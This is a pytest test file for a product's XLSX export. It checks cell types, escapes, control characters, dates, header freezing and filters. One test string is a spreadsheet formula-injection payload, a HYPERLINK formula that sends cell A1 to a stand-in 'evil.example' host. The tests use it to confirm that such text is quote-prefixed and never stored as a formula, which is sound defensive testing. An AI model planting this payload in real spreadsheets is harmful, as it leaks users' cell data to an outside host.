"""Every XLSX the product writes (trace/spreadsheet.py): a table's rows, written by the row fast
path, read back by openpyxl exactly as XlsxWriter's own per-cell writers write the same values:
types, number formats, quote prefixes, escapes, control characters, surrounding spaces; the header
frozen and filtered; the column widths as given."""

from __future__ import annotations

import io
from datetime import UTC, date, datetime, timedelta, timezone
from typing import Any

import pytest
from openpyxl import load_workbook

from cradletrace import spreadsheet
from cradletrace.spreadsheet import Pairs, Table, xlsx_bytes

COLUMNS: tuple[spreadsheet.Column, ...] = (
    ("text", "Text", "str"),
    ("number", "Number", "num"),
    ("day", "Day", "date"),
    ("at", "At (UTC)", "datetime"),
    ("other", "Anything", "str"),
)
TEXTS = [
    "plain",
    "婴儿配方奶粉 Stage 1",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1",
    "-1+1",
    "@SUM(1)",
    "\tTab first",
    "\rCR first",
    " leading space",
    "trailing space ",
    "a & b < c > d",
    "bell\x07 and nul\x00",
    "literal _x0041_ escape",
    "line\nbreak",
    "",
]
OTHERS: list[Any] = [True, False, 0, -3, 2**40, 1.5, -0.25, 1e-9, None, datetime(2026, 5, 1, 8, 0), date(2026, 5, 2)]


def rows() -> list[dict[str, Any]]:
    t0 = datetime(2026, 3, 1, 9, 30, tzinfo=UTC)
    out = []
    for i in range(max(len(TEXTS), len(OTHERS))):
        out.append(
            {
                "text": TEXTS[i % len(TEXTS)],
                "number": [18500, 2.75, 0, None, 10**15][i % 5],
                "day": [None, "2026-11-18", date(1900, 1, 5), date(2026, 2, 28)][i % 4],
                "at": [
                    (t0 + timedelta(hours=i)).isoformat(),
                    t0.astimezone(timezone(timedelta(hours=8))),
                    None,
                    datetime(1900, 2, 1, 12),
                ][i % 4],
                "other": OTHERS[i % len(OTHERS)],
            }
        )
    return out


def per_cell(table: Table) -> bytes:
    """The same table through XlsxWriter's own writers, cell by cell (the reference)."""
    import xlsxwriter

    out = io.BytesIO()
    wb = xlsxwriter.Workbook(out, {"constant_memory": True, "strings_to_formulas": False, "strings_to_urls": False})
    cell = spreadsheet._Writer(wb)
    ws = wb.add_worksheet(table.name)
    for i, (_, header, _) in enumerate(table.columns):
        cell(ws, 0, i, header)
    for r, row in enumerate(table.rows, start=1):
        for i, (key, _, kind) in enumerate(table.columns):
            cell(ws, r, i, spreadsheet.typed(row[key], kind))
    wb.close()
    return out.getvalue()


def cells(body: bytes) -> list[list[tuple[Any, ...]]]:
    ws = load_workbook(io.BytesIO(body)).worksheets[0]
    return [
        [(c.value, c.data_type, c.number_format if c.data_type == "d" else None, bool(c.quotePrefix)) for c in row]
        for row in ws.iter_rows()
    ]


def test_the_fast_rows_read_back_as_xlsxwriters_own_cells() -> None:
    table = Table("Rows", COLUMNS, rows())
    fast, reference = cells(xlsx_bytes([table])), cells(per_cell(table))
    assert fast == reference
    texts = {row[0][0] for row in fast[1:]}
    assert {" leading space", "trailing space ", "a & b < c > d", "line\nbreak"} <= texts
    quoted = {row[0][0] for row in fast[1:] if row[0][3]}  # "\r" reads back as Excel's "_x000D_"
    assert quoted == {t.replace("\r", "_x000D_") for t in TEXTS if t.startswith(spreadsheet.FORMULA_STARTS)}
    assert all(row[0][1] == "s" for row in fast[1:] if row[0][0] is not None)  # text stays text, never a formula
    assert fast[2][3][0] == datetime(2026, 3, 1, 9, 30)  # given as 17:30 +08:00: written in UTC
    assert fast[3][2][0] == datetime(1900, 1, 5)  # before Excel's 1900 leap-year bug, as XlsxWriter writes it


def test_the_table_keeps_its_header_filter_and_widths() -> None:
    body = xlsx_bytes(
        [
            Table("Rows", COLUMNS, rows()),
            Table("Empty", COLUMNS, []),
            Pairs("About", [("When", datetime(2026, 1, 1, tzinfo=UTC))]),
        ]
    )
    wb = load_workbook(io.BytesIO(body))
    ws = wb["Rows"]
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == f"A1:E{len(rows()) + 1}"
    assert ws.column_dimensions["A"].width == 12  # A:E, all 12 wide, are one <col> range
    empty = wb["Empty"]
    assert [c.value for c in empty[1]] == [h for _, h, _ in COLUMNS] and empty.max_row == 1
    assert empty.auto_filter.ref == "A1:E1"
    about = wb["About"]
    assert about["B1"].value == datetime(2026, 1, 1) and about.column_dimensions["B"].width == 80


def test_a_number_a_spreadsheet_cannot_hold_is_refused() -> None:
    with pytest.raises(ValueError, match="number: expected a finite number"):
        xlsx_bytes(
            [Table("Rows", COLUMNS, [{"text": "x", "number": float("nan"), "day": None, "at": None, "other": None}])]
        )
